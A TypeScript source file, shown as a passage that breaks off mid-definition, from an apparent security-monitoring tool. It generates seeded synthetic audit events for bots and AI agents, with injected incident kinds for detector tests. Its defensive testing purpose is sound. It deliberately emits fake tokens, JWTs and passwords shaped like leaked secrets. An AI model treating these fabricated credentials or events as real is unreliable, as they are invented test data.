import type { ActionClass, ActionEventInput, IdentityType, Outcome } from '../model/action.js';
import { DAY_MS } from '../common/time.js';

/**
 * Realistic demo traffic in scopewatch.action/v1: a handful of non-human identities doing
 * their normal work in sessions, plus rare injected incidents for the detectors to find.
 *
 * Pure and deterministic: every value derives from `seed` and `startMs` through one seeded
 * PRNG (no Math.random, no clock), so a seed reproduces byte-identical traffic for tests,
 * benchmarks and bug reports.
 */

// ---------------------------------------------------------------------------------------------
// Public types
// ---------------------------------------------------------------------------------------------

export const INCIDENT_KINDS = [
  'new_tool',
  'new_egress_after_secret_read',
  'deploy_without_approval',
  'revoked_identity_activity',
] as const;
export type IncidentKind = (typeof INCIDENT_KINDS)[number];

export interface DemoOptions {
  seed: number;
  /** Simulated time of the stream's start (epoch ms); time only moves forward from here. */
  startMs: number;
  /** Mean events per hour for each active identity (default 7,200). */
  eventsPerIdentityHour?: number;
  /** Probability that a session is replaced by an injected incident (default 0.03). */
  incidentRate?: number;
}

export interface DemoEvent {
  /** The Kafka key: the acting identity's id, so one identity's events stay in order. */
  key: string;
  event: ActionEventInput;
  /** Ground truth for detector tests; nothing inside `event` gives it away. */
  incident?: IncidentKind;
}

export interface DemoIdentity {
  readonly id: string;
  readonly type: IdentityType;
  readonly owner: string;
  readonly purpose: string;
  /** Fingerprint of the credential it acts with (never the secret itself). */
  readonly credential: string;
  /** Tools it uses in normal sessions. */
  readonly tools: readonly string[];
  readonly resources: readonly string[];
  /** Hosts it normally talks to. */
  readonly domains: readonly string[];
  /** Revoked in the registry: any activity at all is an incident. */
  readonly revoked: boolean;
}

/**
 * Dense enough that a million events span well under two days, so callers can backfill from
 * `now - 24h` without crossing the schema's "at most a day ahead" limit. Think fleets (many
 * concurrent runs per identity), not a single process.
 */
const DEFAULT_EVENTS_PER_IDENTITY_HOUR = 7_200;
const DEFAULT_INCIDENT_RATE = 0.03;
/** Share of eligible calls that carry a secret-looking value, so redaction has work. */
const LEAK_RATE = 0.05;

// ---------------------------------------------------------------------------------------------
// Seeded PRNG
// ---------------------------------------------------------------------------------------------

const HEX_SCRATCH = Buffer.alloc(64);

interface WeightTable<K extends string> {
  entries: readonly (readonly [K, number])[];
  total: number;
}
/** Weight records are static tables; their entries and total are computed once, not per draw. */
const weightTables = new WeakMap<object, WeightTable<string>>();
function weightTable<K extends string>(weights: Readonly<Record<K, number>>): WeightTable<K> {
  const cached = weightTables.get(weights) as WeightTable<K> | undefined;
  if (cached) return cached;
  const entries = Object.entries(weights) as [K, number][];
  const table = { entries, total: entries.reduce((sum, [, w]) => sum + w, 0) };
  weightTables.set(weights, table);
  return table;
}

/**
 * sfc32 seeded through splitmix32. Small and fast, and its 128-bit state keeps random ids
 * unique across millions of events (a 32-bit-state generator like mulberry32 would repeat).
 */
class Rng {
  private a: number;
  private b: number;
  private c: number;
  private d: number;

  constructor(seed: number) {
    // Fold the high bits of large seeds in too, so seeds 1 and 2**32 + 1 differ.
    let s = (Math.trunc(seed) ^ Math.trunc(seed / 2 ** 32)) >>> 0;
    const splitmix32 = (): number => {
      s = (s + 0x9e3779b9) | 0;
      let z = s;
      z = Math.imul(z ^ (z >>> 16), 0x85ebca6b);
      z = Math.imul(z ^ (z >>> 13), 0xc2b2ae35);
      return (z ^ (z >>> 16)) >>> 0;
    };
    this.a = splitmix32();
    this.b = splitmix32();
    this.c = splitmix32();
    this.d = splitmix32();
    for (let i = 0; i < 12; i++) this.uint32();
  }

  uint32(): number {
    const t = (((this.a + this.b) | 0) + this.d) | 0;
    this.d = (this.d + 1) | 0;
    this.a = this.b ^ (this.b >>> 9);
    this.b = (this.c + (this.c << 3)) | 0;
    this.c = (this.c << 21) | (this.c >>> 11);
    this.c = (this.c + t) | 0;
    return t >>> 0;
  }

  /** Uniform in [0, 1). */
  float(): number {
    return this.uint32() / 4_294_967_296;
  }

  /** Uniform integer in [min, max], both inclusive. */
  int(min: number, max: number): number {
    return min + Math.floor(this.float() * (max - min + 1));
  }

  chance(p: number): boolean {
    return this.float() < p;
  }

  pick<T>(items: readonly T[]): T {
    const item = items[Math.floor(this.float() * items.length)];
    if (item === undefined) throw new Error('cannot pick from an empty list');
    return item;
  }

  weighted<K extends string>(weights: Readonly<Record<K, number>>): K {
    const { entries, total } = weightTable(weights);
    let r = this.float() * total;
    for (const [key, w] of entries) {
      r -= w;
      if (r < 0) return key;
    }
    const last = entries.at(-1);
    if (last === undefined) throw new Error('cannot pick from empty weights');
    return last[0];
  }

  /** Exponential with the given mean: gaps between independent arrivals. */
  exp(mean: number): number {
    return -Math.log(1 - this.float()) * mean;
  }

  chars(alphabet: string, length: number): string {
    let out = '';
    for (let i = 0; i < length; i++) out += alphabet.charAt(Math.floor(this.float() * alphabet.length));
    return out;
  }

  /** Lowercase hex; through a byte buffer because ids and span ids make this the hot path. */
  hex(length: number): string {
    const words = Math.ceil(length / 8);
    const scratch = words <= HEX_SCRATCH.length / 4 ? HEX_SCRATCH : Buffer.alloc(words * 4);
    for (let i = 0; i < words; i++) scratch.writeUInt32BE(this.uint32(), i * 4);
    return scratch.toString('hex', 0, words * 4).slice(0, length);
  }
}

// ---------------------------------------------------------------------------------------------
// Wire formats: timestamps, event ids, fake secrets
// ---------------------------------------------------------------------------------------------

const pad2 = (n: number): string => String(n).padStart(2, '0');

/** RFC 3339 in a fixed local offset, the way an on-prem box with a local clock writes it. */
function rfc3339WithOffset(ms: number, offsetMinutes: number): string {
  const local = new Date(ms + offsetMinutes * 60_000).toISOString().slice(0, 23);
  const abs = Math.abs(offsetMinutes);
  return `${local}${offsetMinutes < 0 ? '-' : '+'}${pad2(Math.floor(abs / 60))}:${pad2(abs % 60)}`;
}

/** Producers disagree on `ts`; the schema accepts all of these, so the demo mixes them. */
const TS_STYLES = {
  epoch_ms: (ms: number): string | number => ms,
  rfc3339_utc: (ms: number): string | number => new Date(ms).toISOString(),
  rfc3339_us_east: (ms: number): string | number => rfc3339WithOffset(ms, -300),
} as const;
type TsStyle = keyof typeof TS_STYLES;

const CROCKFORD32 = '0123456789ABCDEFGHJKMNPQRSTVWXYZ';
const BASE62 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
const BASE64URL = `${BASE62}-_`;

/** UUIDv7: 48-bit ms time, then random bits: sortable and unique, like modern SDKs emit. */
function uuid7(ms: number, rng: Rng): string {
  const t = ms.toString(16).padStart(12, '0');
  const variant = '89ab'.charAt(rng.int(0, 3));
  return `${t.slice(0, 8)}-${t.slice(8, 12)}-7${rng.hex(3)}-${variant}${rng.hex(3)}-${rng.hex(12)}`;
}

/** ULID: 10 Crockford chars of time + 16 of randomness. */
function ulid(ms: number, rng: Rng): string {
  let time = '';
  for (let t = ms, i = 0; i < 10; i++, t = Math.floor(t / 32)) time = CROCKFORD32.charAt(t % 32) + time;
  return time + rng.chars(CROCKFORD32, 16);
}

const ID_STYLES = { uuid7, ulid } as const;
type IdStyle = keyof typeof ID_STYLES;

const base64url = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url');

/** JWT-shaped bearer token whose payload says it is demo data; the signature is noise. */
function fakeJwt(rng: Rng, subject: string, atMs: number): string {
  const header = base64url({ alg: 'HS256', typ: 'JWT' });
  const payload = base64url({ iss: 'scopewatch-demo', sub: subject, iat: Math.floor(atMs / 1000) });
  return `${header}.${payload}.${rng.chars(BASE64URL, 43)}`;
}

/** GitHub-installation-token-shaped, with DEMO in it so nobody mistakes it for a real one. */
const fakeGithubToken = (rng: Rng): string => `ghs_DEMO${rng.chars(BASE62, 32)}`;
const fakePassword = (rng: Rng): string => `demo-${rng.chars(BASE62, 8)}-${rng.chars(BASE62, 6)}!`;

// ---------------------------------------------------------------------------------------------
// Tools: the action class, permission and audit source each one implies
// ---------------------------------------------------------------------------------------------

interface ToolSpec {
  action: ActionClass;
  permission?: string;
  /** The audit system that reports this tool's calls, when not the identity's own runtime. */
  system?: string;
}

const TOOL_SPECS = {
  // release-bot
  'github.get_pull_request': { action: 'api.call', permission: 'pull_requests:read' },
  'github.list_check_runs': { action: 'api.call', permission: 'checks:read' },
  'github.create_check_run': { action: 'api.call', permission: 'checks:write' },
  'git.commit': { action: 'code.commit', permission: 'contents:write' },
  'git.push': { action: 'code.push', permission: 'contents:write', system: 'github-audit' },
  'argo.sync': { action: 'deploy', permission: 'applications:sync', system: 'argocd' },
  'argo.get_application': { action: 'api.call', permission: 'applications:get', system: 'argocd' },
  // human approvers
  'github.approve_deployment': {
    action: 'approval.grant',
    permission: 'deployments:review',
    system: 'github-audit',
  },
  // support-agent
  'zendesk.get_ticket': { action: 'data.read', permission: 'tickets:read' },
  'zendesk.add_comment': { action: 'data.write', permission: 'tickets:write' },
  'kb.search': { action: 'tool.call' },
  send_email: { action: 'api.call', permission: 'mail.send' },
  // data-pipeline
  'vault.read': { action: 'secret.read', permission: 'read', system: 'vault-audit' },
  's3:GetObject': { action: 'data.read', permission: 's3:GetObject', system: 'aws-cloudtrail' },
  's3:PutObject': { action: 'data.write', permission: 's3:PutObject', system: 'aws-cloudtrail' },
  'snowflake.query': { action: 'data.read', system: 'snowflake' },
  // coding-agent
  'repo.search': { action: 'tool.call', permission: 'contents:read' },
  'repo.read_file': { action: 'data.read', permission: 'contents:read' },
  'pip.install': { action: 'network.egress' },
  'npm.install': { action: 'network.egress' },
  run_tests: { action: 'tool.call' },
  'github.create_pull_request': { action: 'api.call', permission: 'pull_requests:write' },
  // legacy-sync
  'ldap.search': { action: 'data.read' },
  'salesforce.bulk_query': { action: 'data.read', permission: 'api:bulk' },
  'sftp.put': { action: 'network.egress' },
  // only ever seen in injected incidents
  'iam.create_access_key': {
    action: 'identity.change',
    permission: 'iam:CreateAccessKey',
    system: 'aws-cloudtrail',
  },
  'iam.attach_role_policy': {
    action: 'identity.change',
    permission: 'iam:AttachRolePolicy',
    system: 'aws-cloudtrail',
  },
  'kubectl.exec': { action: 'tool.call', permission: 'pods/exec', system: 'k8s-audit' },
  'http.post': { action: 'network.egress' },
} satisfies Record<string, ToolSpec>;
type ToolName = keyof typeof TOOL_SPECS;
const TOOLS: Readonly<Record<ToolName, ToolSpec>> = TOOL_SPECS;

// ---------------------------------------------------------------------------------------------
// Sessions as scripts of steps
// ---------------------------------------------------------------------------------------------

interface Resource {
  type: string;
  id: string;
}

interface Step {
  tool: ToolName;
  /** Wait since the previous step of the same session. */
  gapMs: number;
  /** Only when one tool does different things (a SQL statement may read or write). */
  action?: ActionClass;
  resource?: Resource;
  target_domain?: string;
  args?: Record<string, unknown>;
  /** A scripted outcome instead of the actor's usual odds. */
  outcome?: Outcome;
  approval?: { id: string; by: string };
  /** Someone other than the session's identity acts (a human approving a deploy). */
  actor?: Actor;
  incident?: IncidentKind;
}

interface ScriptCtx {
  rng: Rng;
  startMs: number;
  identityId: string;
  /** A typical pause between two steps of this identity. */
  gap(): number;
}
type Script = (ctx: ScriptCtx) => Step[];

const step = (tool: ToolName, gapMs: number, fields: Omit<Step, 'tool' | 'gapMs'> = {}): Step => ({
  tool,
  gapMs,
  ...fields,
});
const res = (type: string, id: string): Resource => ({ type, id });
const times = <T>(n: number, make: (i: number) => T): T[] => Array.from({ length: n }, (_, i) => make(i));

/** Headers an HTTP tool logged; now and then with the bearer token still in them. */
function httpHeaders(ctx: ScriptCtx, accept: string): Record<string, unknown> {
  if (!ctx.rng.chance(LEAK_RATE)) return {};
  return {
    headers: { Accept: accept, Authorization: `Bearer ${fakeJwt(ctx.rng, ctx.identityId, ctx.startMs)}` },
  };
}

// --- release-bot: CI gates, version bumps, Argo CD syncs; prod only after a human approves ---

const GITHUB_API = 'api.github.com';
const ARGO_HOST = 'argo.internal.acme.dev';
const RELEASE_APPS = [
  { repo: 'acme/api', name: 'api' },
  { repo: 'acme/web', name: 'web' },
] as const;

interface Release {
  repo: string;
  name: string;
  sha: string;
  parent: string;
  version: string;
}

function newRelease(ctx: ScriptCtx): Release {
  const app = ctx.rng.pick(RELEASE_APPS);
  const d = new Date(ctx.startMs);
  const version = `v${d.getUTCFullYear()}.${d.getUTCMonth() + 1}.${ctx.rng.int(0, 80)}`;
  return { ...app, sha: ctx.rng.hex(40), parent: ctx.rng.hex(40), version };
}

function releaseCommit(ctx: ScriptCtx, r: Release): Step {
  return step('git.commit', ctx.gap(), {
    resource: res('repo', r.repo),
    args: {
      branch: 'main',
      message: `chore(release): ${r.version}`,
      parent: r.parent,
      files: ['CHANGELOG.md', 'package.json'],
      insertions: ctx.rng.int(4, 60),
      deletions: ctx.rng.int(1, 6),
      author: 'release-bot <release-bot@users.noreply.github.com>',
    },
  });
}

function releasePush(ctx: ScriptCtx, r: Release): Step {
  // Some CI setups log the remote with its embedded installation token.
  const remote = ctx.rng.chance(LEAK_RATE)
    ? `https://x-access-token:${fakeGithubToken(ctx.rng)}@github.com/${r.repo}.git`
    : `git@github.com:${r.repo}.git`;
  return step('git.push', ctx.gap(), {
    resource: res('repo', r.repo),
    args: {
      remote,
      refspec: 'refs/heads/main:refs/heads/main',
      before: r.parent,
      after: r.sha,
      tags: [r.version],
    },
  });
}

function checkPolls(ctx: ScriptCtx, r: Release, min: number, max: number): Step[] {
  return times(ctx.rng.int(min, max), () =>
    step('github.list_check_runs', ctx.gap(), {
      resource: res('commit', `${r.repo}@${r.sha.slice(0, 7)}`),
      target_domain: GITHUB_API,
      args: {
        owner: 'acme',
        repo: r.name,
        ref: r.sha,
        filter: 'latest',
        per_page: 50,
        ...httpHeaders(ctx, 'application/vnd.github+json'),
      },
    }),
  );
}

type Environment = 'staging' | 'prod';

function argoSync(ctx: ScriptCtx, r: Release, env: Environment, approval?: Step['approval']): Step {
  const application = `${r.name}-${env}`;
  return step('argo.sync', ctx.gap(), {
    resource: res('argo_application', application),
    target_domain: ARGO_HOST,
    args: {
      application,
      environment: env,
      revision: r.sha,
      version: r.version,
      prune: true,
      dry_run: false,
      sync_options: ['ApplyOutOfSyncOnly=true', 'ServerSideApply=true'],
    },
    ...(approval ? { approval } : {}),
  });
}

function argoStatus(ctx: ScriptCtx, r: Release, env: Environment): Step {
  const application = `${r.name}-${env}`;
  return step('argo.get_application', ctx.rng.int(5_000, 40_000), {
    resource: res('argo_application', application),
    target_domain: ARGO_HOST,
    args: {
      application,
      refresh: 'normal',
      fields: ['status.sync', 'status.health', 'status.operationState'],
    },
  });
}

function pullRequestChecks(ctx: ScriptCtx): Step[] {
  const r = newRelease(ctx);
  const pr = ctx.rng.int(1_200, 4_800);
  const passed = ctx.rng.chance(0.85);
  return [
    step('github.get_pull_request', ctx.gap(), {
      resource: res('pull_request', `${r.repo}#${pr}`),
      target_domain: GITHUB_API,
      args: {
        owner: 'acme',
        repo: r.name,
        pull_number: pr,
        url: `https://api.github.com/repos/${r.repo}/pulls/${pr}`,
        media_type: 'application/vnd.github.diff',
        ...httpHeaders(ctx, 'application/vnd.github+json'),
      },
    }),
    ...checkPolls(ctx, r, 1, 3),
    step('github.create_check_run', ctx.gap(), {
      resource: res('commit', `${r.repo}@${r.sha.slice(0, 7)}`),
      target_domain: GITHUB_API,
      args: {
        name: 'release-gate',
        head_sha: r.sha,
        status: 'completed',
        conclusion: passed ? 'success' : 'failure',
        output: { title: passed ? 'Release gate passed' : 'Release gate failed', summary: `PR #${pr}` },
      },
    }),
  ];
}

function stagingRelease(ctx: ScriptCtx): Step[] {
  const r = newRelease(ctx);
  return [
    releaseCommit(ctx, r),
    releasePush(ctx, r),
    ...checkPolls(ctx, r, 1, 3),
    argoSync(ctx, r, 'staging'),
    ...times(ctx.rng.int(1, 2), () => argoStatus(ctx, r, 'staging')),
  ];
}

function prodRelease(ctx: ScriptCtx): Step[] {
  const r = newRelease(ctx);
  const approver = ctx.rng.pick(APPROVERS);
  const approval = { id: `apr_${ctx.rng.hex(16)}`, by: approver.identity.id };
  const grant = step('github.approve_deployment', ctx.rng.int(60_000, 900_000), {
    actor: approver,
    outcome: 'success',
    resource: res('deployment', `${r.name}-prod@${r.sha.slice(0, 7)}`),
    target_domain: GITHUB_API,
    approval,
    args: {
      environment: 'prod',
      application: `${r.name}-prod`,
      revision: r.sha,
      state: 'approved',
      comment: 'Staging green, release notes checked.',
    },
  });
  return [
    releaseCommit(ctx, r),
    releasePush(ctx, r),
    ...checkPolls(ctx, r, 1, 2),
    argoSync(ctx, r, 'staging'),
    argoStatus(ctx, r, 'staging'),
    grant,
    argoSync(ctx, r, 'prod', approval),
    argoStatus(ctx, r, 'prod'),
  ];
}

const RELEASE_SESSIONS = {
  pr_checks: pullRequestChecks,
  staging: stagingRelease,
  prod: prodRelease,
} as const;
const RELEASE_SESSION_WEIGHTS: Record<keyof typeof RELEASE_SESSIONS, number> = {
  pr_checks: 4,
  staging: 3,
  prod: 2,
};

function releaseBotSession(ctx: ScriptCtx): Step[] {
  return RELEASE_SESSIONS[ctx.rng.weighted(RELEASE_SESSION_WEIGHTS)](ctx);
}

// --- support-agent: reads a ticket, searches the KB, replies by email ---

const ZENDESK_API = 'api.zendesk.com';
const SENDGRID_API = 'api.sendgrid.com';
const SUPPORT_TOPICS = [
  { subject: 'Cannot reset my password', query: 'password reset email not received', product: 'accounts' },
  {
    subject: 'Invoice shows the wrong VAT number',
    query: 'change VAT number on invoice',
    product: 'billing',
  },
  { subject: 'Webhook deliveries failing with 410', query: 'webhook 410 gone retries', product: 'api' },
  { subject: 'CSV export times out', query: 'large csv export timeout', product: 'reports' },
  { subject: 'How do I add a teammate?', query: 'invite user to workspace seats', product: 'accounts' },
  { subject: 'Refund for a duplicate charge', query: 'duplicate charge refund policy', product: 'billing' },
] as const;

function supportSession(ctx: ScriptCtx): Step[] {
  const ticket = ctx.rng.int(48_000, 99_999);
  const topic = ctx.rng.pick(SUPPORT_TOPICS);
  const customer = `customer-${ctx.rng.int(1_000, 99_999)}@example.com`;
  const ticketRes = res('zendesk_ticket', `ZD-${ticket}`);
  const comment = (isPublic: boolean, body: string): Step =>
    step('zendesk.add_comment', ctx.gap(), {
      resource: ticketRes,
      target_domain: ZENDESK_API,
      args: {
        ticket_id: ticket,
        public: isPublic,
        body,
        status: isPublic ? ctx.rng.pick(['pending', 'solved']) : 'open',
      },
    });
  const note = ctx.rng.chance(0.4)
    ? [
        comment(
          false,
          `Internal: customer on ${ctx.rng.pick(['team', 'business', 'enterprise'])} plan; KB answer applies.`,
        ),
      ]
    : [];
  return [
    step('zendesk.get_ticket', ctx.gap(), {
      resource: ticketRes,
      target_domain: ZENDESK_API,
      args: {
        ticket_id: ticket,
        url: `https://acme.zendesk.com/api/v2/tickets/${ticket}.json`,
        include: ['comments', 'users', 'organizations'],
        brand: 'acme',
        ...httpHeaders(ctx, 'application/json'),
      },
    }),
    ...times(ctx.rng.int(1, 3), (i) =>
      step('kb.search', ctx.gap(), {
        resource: res('kb_index', 'help-center-en'),
        args: {
          query: i === 0 ? topic.query : `${topic.query} ${topic.product}`,
          top_k: 5,
          filters: { locale: 'en-US', product: topic.product },
        },
      }),
    ),
    ...note,
    step('send_email', ctx.gap(), {
      resource: ticketRes,
      target_domain: SENDGRID_API,
      args: {
        to: customer,
        from: 'support@acme.dev',
        subject: `Re: [ZD-${ticket}] ${topic.subject}`,
        template_id: `d-${ctx.rng.hex(32)}`,
        categories: ['support', topic.product],
        ...httpHeaders(ctx, 'application/json'),
      },
    }),
    comment(
      true,
      `Hi, thanks for reaching out about "${topic.subject}". We have emailed you the steps to resolve it.`,
    ),
  ];
}

// --- data-pipeline: reads its Snowflake credential, moves hourly partitions S3 → Snowflake → S3 ---

const SNOWFLAKE_HOST = 'acme.snowflakecomputing.com';
const PIPELINE_SECRET = 'vault:kv/data-pipeline/snowflake';

function snowflakeQuery(ctx: ScriptCtx, action: ActionClass, table: string, statement: string): Step {
  // Connection settings occasionally leak into the logged call, password included.
  const connection = ctx.rng.chance(LEAK_RATE)
    ? { connection: { account: 'acme', user: 'SVC_DATA_PIPELINE', password: fakePassword(ctx.rng) } }
    : {};
  return step('snowflake.query', ctx.gap(), {
    action,
    resource: res('snowflake_table', table),
    target_domain: SNOWFLAKE_HOST,
    args: {
      warehouse: 'TRANSFORM_WH',
      role: 'PIPELINE_RW',
      query_tag: `curate_events:${ctx.rng.hex(8)}`,
      statement,
      ...connection,
    },
  });
}

function s3Object(ctx: ScriptCtx, tool: 's3:GetObject' | 's3:PutObject', bucket: string, key: string): Step {
  return step(tool, ctx.gap(), {
    resource: res('s3_object', `s3://${bucket}/${key}`),
    target_domain: `${bucket}.s3.amazonaws.com`,
    args: {
      bucket,
      key,
      bytes: ctx.rng.int(200_000, 48_000_000),
      sse: 'aws:kms',
      request_id: ctx.rng.hex(16).toUpperCase(),
    },
  });
}

function dataPipelineSession(ctx: ScriptCtx): Step[] {
  // Each run processes the previous hour's partition.
  const hour = new Date(ctx.startMs - 3_600_000).toISOString();
  const [date = '', time = ''] = hour.split('T');
  const hh = time.slice(0, 2);
  const rawPrefix = `${date.replaceAll('-', '/')}/${hh}`;
  const curatedPrefix = `events/dt=${date}/hour=${hh}`;
  return [
    step('vault.read', ctx.rng.int(100, 1_000), {
      outcome: 'success',
      resource: res('vault_secret', PIPELINE_SECRET),
      args: {
        mount: 'kv',
        path: 'data-pipeline/snowflake',
        version: ctx.rng.int(3, 9),
        // Vault's audit log HMACs the client token accessor instead of writing it out.
        accessor: `hmac-sha256:${ctx.rng.hex(64)}`,
        request_id: uuid7(ctx.startMs, ctx.rng),
      },
    }),
    ...times(ctx.rng.int(2, 6), (i) =>
      s3Object(ctx, 's3:GetObject', 'raw-events', `${rawPrefix}/part-${String(i).padStart(5, '0')}.json.gz`),
    ),
    snowflakeQuery(
      ctx,
      'data.write',
      'ANALYTICS.RAW.EVENTS_STAGE',
      `COPY INTO RAW.EVENTS_STAGE FROM @raw_events/${rawPrefix}/ FILE_FORMAT = (TYPE = JSON)`,
    ),
    snowflakeQuery(
      ctx,
      'data.write',
      'ANALYTICS.CURATED.EVENTS',
      'MERGE INTO CURATED.EVENTS t USING RAW.EVENTS_STAGE s ON t.event_id = s.event_id WHEN NOT MATCHED THEN INSERT *',
    ),
    ...times(ctx.rng.int(1, 3), (i) =>
      s3Object(
        ctx,
        's3:PutObject',
        'curated-events',
        `${curatedPrefix}/part-${String(i).padStart(3, '0')}.parquet`,
      ),
    ),
    snowflakeQuery(
      ctx,
      'data.read',
      'ANALYTICS.CURATED.EVENTS',
      `SELECT COUNT(*) FROM CURATED.EVENTS WHERE dt = '${date}' AND hour = ${Number(hh)}`,
    ),
  ];
}

// --- coding-agent: one run per task on acme/api, delegated by alice ---

const CODE_TASKS = [
  {
    slug: 'fix-pagination',
    search: 'def paginate',
    files: ['api/routes/orders.py', 'api/pagination.py', 'tests/test_pagination.py'],
    test: 'pytest -q tests/test_pagination.py',
    deps: 'pip',
    pkg: 'httpx==0.27.2',
  },
  {
    slug: 'retry-webhooks',
    search: 'class WebhookSender',
    files: ['api/webhooks/sender.py', 'api/webhooks/queue.py', 'tests/test_webhooks.py'],
    test: 'pytest -q tests/test_webhooks.py',
    deps: 'pip',
    pkg: 'tenacity==9.0.0',
  },
  {
    slug: 'sdk-order-types',
    search: 'export interface Order',
    files: ['sdk/src/orders.ts', 'sdk/src/client.ts', 'sdk/test/orders.test.ts'],
    test: 'npm test --prefix sdk -- --run',
    deps: 'npm',
    pkg: 'zod@3.23.8',
  },
  {
    slug: 'rate-limit-headers',
    search: 'X-RateLimit-Remaining',
    files: ['sdk/src/http.ts', 'api/middleware/ratelimit.py', 'sdk/test/http.test.ts'],
    test: 'npm test --prefix sdk -- --run',
    deps: 'npm',
    pkg: 'undici@6.21.0',
  },
] as const;
const INSTALLERS = {
  pip: { tool: 'pip.install', host: 'pypi.org', index: 'https://pypi.org/simple' },
  npm: { tool: 'npm.install', host: 'registry.npmjs.org', index: 'https://registry.npmjs.org/' },
} as const;

function codingAgentSession(ctx: ScriptCtx): Step[] {
  const task = ctx.rng.pick(CODE_TASKS);
  const branch = `agent/${task.slug}-${ctx.rng.hex(6)}`;
  const repo = res('repo', 'acme/api');
  const read = (path: string): Step =>
    step('repo.read_file', ctx.gap(), {
      resource: res('file', `acme/api:${path}`),
      args: {
        repo: 'acme/api',
        path,
        ref: 'main',
        start_line: 1,
        end_line: ctx.rng.int(80, 400),
        encoding: 'utf-8',
        max_bytes: 65_536,
      },
    });
  const runTests = (outcome: Outcome): Step =>
    step('run_tests', ctx.rng.int(20_000, 180_000), {
      outcome,
      resource: repo,
      args: {
        command: task.test,
        cwd: '/workspace/acme-api',
        timeout_s: 600,
        env: { CI: '1', PYTHONHASHSEED: '0' },
        junit_xml: 'reports/junit.xml',
      },
    });
  const installer = INSTALLERS[task.deps];
  const install = ctx.rng.chance(0.4)
    ? [
        step(installer.tool, ctx.gap(), {
          target_domain: installer.host,
          args: {
            packages: [task.pkg],
            index_url: installer.index,
            cwd: '/workspace/acme-api',
            no_cache: true,
            save_exact: true,
          },
        }),
      ]
    : [];
  // A third of runs fail their first test run and go back to the code before trying again.
  const tests = ctx.rng.chance(0.3)
    ? [runTests('failure'), read(task.files[0]), runTests('success')]
    : [runTests('success')];
  return [
    step('repo.search', ctx.gap(), {
      resource: repo,
      args: {
        repo: 'acme/api',
        query: task.search,
        path_glob: '**/*',
        exclude: ['node_modules/**', '.venv/**'],
        case_sensitive: false,
        max_results: 20,
      },
    }),
    ...task.files.slice(0, ctx.rng.int(1, 3)).map(read),
    ...install,
    ...tests,
    step('git.commit', ctx.gap(), {
      resource: repo,
      args: {
        branch,
        message: `fix: ${task.slug.replaceAll('-', ' ')}`,
        files: task.files.slice(0, 2),
        author: 'coding-agent <coding-agent@acme.dev>',
      },
    }),
    step('github.create_pull_request', ctx.gap(), {
      resource: repo,
      target_domain: GITHUB_API,
      args: {
        title: `fix: ${task.slug.replaceAll('-', ' ')}`,
        head: branch,
        base: 'main',
        draft: true,
        body: `Automated change for ${task.slug}. Tests: \`${task.test}\``,
      },
    }),
  ];
}

// --- legacy-sync: decommissioned nightly LDAP → Salesforce → partner SFTP export ---

function legacySyncSession(ctx: ScriptCtx): Step[] {
  const stamp = new Date(ctx.startMs).toISOString().slice(0, 10).replaceAll('-', '');
  return [
    step('ldap.search', ctx.gap(), {
      resource: res('ldap_dn', 'ou=people,dc=acme,dc=dev'),
      target_domain: 'ldap.corp.acme.dev',
      args: {
        filter: '(&(objectClass=person)(!(accountDisabled=TRUE)))',
        attributes: ['mail', 'cn', 'department'],
        size_limit: 5000,
      },
    }),
    ...times(ctx.rng.int(1, 3), () =>
      step('salesforce.bulk_query', ctx.gap(), {
        resource: res('salesforce_object', 'Contact'),
        target_domain: 'acme.my.salesforce.com',
        args: {
          soql: 'SELECT Id, Email, AccountId, LastModifiedDate FROM Contact WHERE LastModifiedDate = LAST_N_DAYS:1',
          api_version: '52.0',
        },
      }),
    ),
    step('sftp.put', ctx.gap(), {
      resource: res('file', `/inbound/contacts_${stamp}.csv`),
      target_domain: 'sftp.partner-legacy.example',
      args: {
        path: `/inbound/contacts_${stamp}.csv`,
        local_file: `/var/spool/legacy-sync/contacts_${stamp}.csv`,
        mode: '0640',
        bytes: ctx.rng.int(100_000, 4_000_000),
        user: 'acme-sync',
      },
    }),
  ];
}

// ---------------------------------------------------------------------------------------------
// Identities
// ---------------------------------------------------------------------------------------------

type OutcomeOdds = Readonly<Record<Exclude<Outcome, 'unknown'>, number>>;

/** Everything needed to write an event as some identity. */
interface Actor {
  readonly identity: Pick<DemoIdentity, 'id' | 'type' | 'owner' | 'credential'>;
  readonly tsStyle: TsStyle;
  readonly idStyle: IdStyle;
  readonly outcomes: OutcomeOdds;
  readonly source: { readonly system: string; readonly ips: readonly string[]; readonly userAgent: string };
  readonly onBehalfOf?: string;
}

interface SessionMeta {
  id: string;
  instance?: string;
  attributes: Record<string, string>;
}

interface Profile extends Actor {
  readonly identity: DemoIdentity;
  readonly gapMs: readonly [number, number];
  readonly open: (rng: Rng, startMs: number) => SessionMeta;
  readonly script: Script;
}

const traceId = (rng: Rng): string => rng.hex(32);
const AGENT_MODELS = ['claude-sonnet-4-5', 'gpt-4.1', 'gpt-4.1-mini'] as const;

function human(id: string, credential: string): Actor {
  return {
    identity: { id, type: 'human', owner: id, credential },
    tsStyle: 'rfc3339_utc',
    idStyle: 'uuid7',
    outcomes: { success: 1, failure: 0, denied: 0, error: 0 },
    source: {
      system: 'github-audit',
      ips: ['203.0.113.24', '198.51.100.7'],
      userAgent: 'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5)',
    },
  };
}

const APPROVERS: readonly Actor[] = [
  human('dana.kim@acme.dev', 'sso:okta:fp-4e1a9c07'),
  human('bob.ortiz@acme.dev', 'sso:okta:fp-b83d2f51'),
];

const PROFILES = {
  'release-bot': {
    identity: {
      id: 'release-bot',
      type: 'service_account',
      owner: 'team-platform',
      purpose: 'Cuts releases: CI gates, version bumps and Argo CD syncs; prod only after a human approval',
      credential: 'gh-app:318204:fp-2b7e91c0',
      tools: [
        'github.get_pull_request',
        'github.list_check_runs',
        'github.create_check_run',
        'git.commit',
        'git.push',
        'argo.sync',
        'argo.get_application',
      ],
      resources: [
        'acme/api',
        'acme/web',
        'argo:api-staging',
        'argo:api-prod',
        'argo:web-staging',
        'argo:web-prod',
      ],
      domains: [GITHUB_API, ARGO_HOST],
      revoked: false,
    },
    tsStyle: 'rfc3339_utc',
    idStyle: 'uuid7',
    outcomes: { success: 96, failure: 3, denied: 0.5, error: 0.5 },
    source: {
      system: 'github-actions',
      ips: ['10.40.12.7', '10.40.12.19'],
      userAgent: 'release-bot/3.4.1 octokit/4.1',
    },
    gapMs: [4_000, 60_000],
    open: (rng) => ({
      id: `gha-run-${rng.hex(12)}`,
